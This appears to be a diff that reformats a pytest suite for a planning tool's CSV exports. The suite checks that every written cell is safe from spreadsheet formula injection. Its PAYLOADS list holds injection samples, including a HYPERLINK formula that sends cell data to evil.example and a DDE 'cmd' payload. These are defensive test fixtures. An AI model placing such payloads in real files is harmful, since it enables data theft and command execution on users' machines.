@@ -29,8 +29,15 @@ from planner.plans import diff_plans, load_plan
 
 AS_OF = dt.date(2026, 1, 15)
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "'")
-PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
-            "\t=1+1", "\r=1+1", "'quoted")
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'quoted",
+)
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e[+-]?[0-9]+)?")
 runner = CliRunner()
 
@@ -109,7 +116,17 @@ def outputs(tmp_path_factory):
     run("reassign", book_dir, "--out", root / "reassign", f"--leaving={leaver}", *common)
     run("coverage", book_dir, "--out", root / "coverage", "--as-of", AS_OF.isoformat())
     for fmt in ("csv", "salesforce", "gainsight", "json"):
-        run("export", root / "plan", "--format", fmt, "--out", root / f"export_{fmt}", "--allow-draft", "--ledger", ledger)
+        run(
+            "export",
+            root / "plan",
+            "--format",
+            fmt,
+            "--out",
+            root / f"export_{fmt}",
+            "--allow-draft",
+            "--ledger",
+            ledger,
+        )
     return {"root": root, "book": book, "leaver": leaver}
 
 
@@ -140,9 +157,18 @@ def test_every_cell_of_every_csv_written_is_safe_to_open(outputs):
     folders = ("plan", "reassign", "coverage", "export_csv", "export_salesforce", "export_gainsight", "export_json")
     files = [p for f in folders for p in sorted((outputs["root"] / f).glob("*.csv"))]
     names = {f"{p.parent.name}/{p.name}" for p in files}
-    assert {"plan/assignments.csv", "plan/owners.csv", "reassign/handoffs.csv", "coverage/backups.csv",
-            "coverage/bus_factor.csv", "coverage/csm_risk.csv", "export_csv/owner_changes.csv",
-            "export_csv/rollback.csv", "export_csv/exceptions.csv", "export_salesforce/exceptions.csv"} <= names
+    assert {
+        "plan/assignments.csv",
+        "plan/owners.csv",
+        "reassign/handoffs.csv",
+        "coverage/backups.csv",
+        "coverage/bus_factor.csv",
+        "coverage/csm_risk.csv",
+        "export_csv/owner_changes.csv",
+        "export_csv/rollback.csv",
+        "export_csv/exceptions.csv",
+        "export_salesforce/exceptions.csv",
+    } <= names
     unsafe, quoted = [], 0
     for path in files:
         for line, row in enumerate(rows(path), start=1):
@@ -199,7 +225,9 @@ def test_load_plan_and_plans_diff_see_the_original_text(outputs):
     assert set(plan.owners) >= set(book.csms["csm_id"]) | set(book.pools["pool_id"])
     csm_names = dict(zip(book.csms["csm_id"], book.csms["name"], strict=True))
     assert {o: plan.owners[o]["name"] for o in csm_names} == csm_names
-    assert {o: plan.owners[o]["email"] for o in csm_names} == dict(zip(book.csms["csm_id"], book.csms["email"], strict=True))
+    assert {o: plan.owners[o]["email"] for o in csm_names} == dict(
+        zip(book.csms["csm_id"], book.csms["email"], strict=True)
+    )
 
     reassigned = load_plan(root / "reassign")
     owners = set(book.csms["csm_id"]) | set(book.pools["pool_id"]) | {"digital"}
@@ -232,8 +260,11 @@ def test_export_of_a_hostile_plan_neutralizes_text_and_routes_formula_keys_to_ex
     for fmt, load in (("salesforce", "salesforce_account_owners.csv"), ("gainsight", "gainsight_company_csm.csv")):
         head, *body = rows(root / f"export_{fmt}" / load)
         assert body, fmt
-        exceptions = {e["account_id"]: e["reason"] for e in records(root / f"export_{fmt}" / "exceptions.csv")
-                      if e["file"] == "export"}
+        exceptions = {
+            e["account_id"]: e["reason"]
+            for e in records(root / f"export_{fmt}" / "exceptions.csv")
+            if e["file"] == "export"
+        }
         assert formula_keys <= set(exceptions) <= ids, fmt
     gainsight = {e["account_id"]: e["reason"] for e in records(root / "export_gainsight" / "exceptions.csv")}
     assert all("formula" in gainsight[a] for a in formula_keys)
@@ -246,11 +277,27 @@ def test_export_of_a_hostile_plan_neutralizes_text_and_routes_formula_keys_to_ex
 # -- the writer itself -------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("value, text", [
-    (-5.0, "-5"), (2.5, "2.5"), (-3, "-3"), (True, "true"), (None, ""), (float("nan"), ""), (pd.NaT, ""),
-    (pd.Timestamp("2026-03-01"), "2026-03-01"), (dt.date(2026, 3, 2), "2026-03-02"), (("-a", "b"), "'-a;b"),
-    ("-5", "'-5"), ("=1+1", "'=1+1"), ("'x", "''x"), ("\tx", "'\tx"), ("plain", "plain"), (float("-inf"), "'-inf"),
-])
+@pytest.mark.parametrize(
+    "value, text",
+    [
+        (-5.0, "-5"),
+        (2.5, "2.5"),
+        (-3, "-3"),
+        (True, "true"),
+        (None, ""),
+        (float("nan"), ""),
+        (pd.NaT, ""),
+        (pd.Timestamp("2026-03-01"), "2026-03-01"),
+        (dt.date(2026, 3, 2), "2026-03-02"),
+        (("-a", "b"), "'-a;b"),
+        ("-5", "'-5"),
+        ("=1+1", "'=1+1"),
+        ("'x", "''x"),
+        ("\tx", "'\tx"),
+        ("plain", "plain"),
+        (float("-inf"), "'-inf"),
+    ],
+)
 def test_cell_text_by_type(value, text):
     assert cell_text(value) == text
     if isinstance(value, str):
@@ -259,7 +306,7 @@ def test_cell_text_by_type(value, text):
 
 def test_a_bare_cr_is_quoted_so_the_record_stays_one_line():
     line = csv_record(["a\rb", "=c"])
-    assert line == "\"a\rb\",'=c\n"
+    assert line == '"a\rb",\'=c\n'
     assert frame_csv(pd.DataFrame({"=h": ["-1"], "n": [-1.0]})) == "'=h,n\n'-1,-1\n"
 
 
